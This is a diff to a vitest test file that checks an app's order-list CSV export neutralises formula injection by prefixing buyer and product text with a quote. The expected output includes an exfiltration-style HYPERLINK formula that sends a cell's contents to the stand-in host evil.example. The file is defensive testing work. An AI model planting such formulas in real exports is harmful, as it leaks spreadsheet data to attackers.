@@ -1,12 +1,15 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { marketOrders } from '../src/db/schema/orders.ts';
+import { insertWorkspace } from '../src/modules/members/member-fixtures.ts';
+import { sampleOrderRow } from '../src/modules/orders/orders-test-kit.ts';
 import { multipartFile } from '../src/modules/source-parser/source-parser-test-kit.ts';
 import { buildTestApp, type TestContext } from '../test/build-test-app.ts';
 import { createUser, loginAs } from '../test/factories.ts';
 
 /**
  * CSV formula injection matters where an app writes CSV that a spreadsheet opens: a cell starting with = + - @ (or a
- * tab/CR before one) runs as a formula. Ollida only reads CSV (`POST /api/parse-csv`, a list of supplier URLs) and
- * answers JSON; these tests pin both facts, so an export added later has to come with its own neutralising test.
+ * tab/CR before one) runs as a formula. Ollida reads CSV (supplier URLs, tracking numbers) and writes one export, the
+ * order list, whose text comes from buyers and marketplaces: every such cell is neutralised with a leading quote.
  */
 
 let ctx: TestContext;
@@ -51,9 +54,38 @@ describe('CSV formula payloads', () => {
     });
   });
 
-  it('has no CSV (or spreadsheet) export anywhere: the only CSV route is the import', () => {
+  it('has two CSV imports and one export, the order list, and nothing else', () => {
     const routes = ctx.app.printRoutes({ commonPrefix: false });
     const csvLike = routes.split('\n').filter((line) => /csv|xlsx|export/i.test(line));
-    expect(csvLike.map((line) => line.replace(/[│├└─\s]+/g, ' ').trim())).toEqual(['/api/parse-csv (POST)']);
+    // The printed tree splits paths where they share a prefix: `/api/orders/dispatch-csv` and `…/export.csv`.
+    expect(csvLike.map((line) => line.replace(/[│├└─\s]+/g, ' ').trim()).sort()).toEqual([
+      '-csv (POST)',
+      '/api/parse-csv (POST)',
+      '/export.csv (GET, HEAD)',
+    ]);
+  });
+
+  it('writes a buyer or product text that looks like a formula into the order export as inert text', async () => {
+    const seller = await createUser(ctx);
+    const store = await insertWorkspace(ctx, seller.id);
+    await ctx.database.db.insert(marketOrders).values(
+      formulas.map((formula, index) => ({
+        ...sampleOrderRow(store.id, ctx.clock.now),
+        marketKey: `60000000000000${index}`,
+        buyerName: formula,
+        productName: formula,
+      })),
+    );
+    const response = await ctx.app.inject({
+      method: 'GET',
+      url: `/api/orders/export.csv?workspace_id=${store.id}`,
+      headers: { authorization: `Bearer ${await loginAs(ctx, seller.id)}` },
+    });
+    expect(response.statusCode, response.body).toBe(200);
+    const cells = response.body.split(/\r\n/).slice(1).join(',');
+    for (const formula of formulas) {
+      expect(cells).not.toMatch(new RegExp(`(^|,)"?${formula.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+    }
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""쿠폰 받기"")"`);
   });
 });
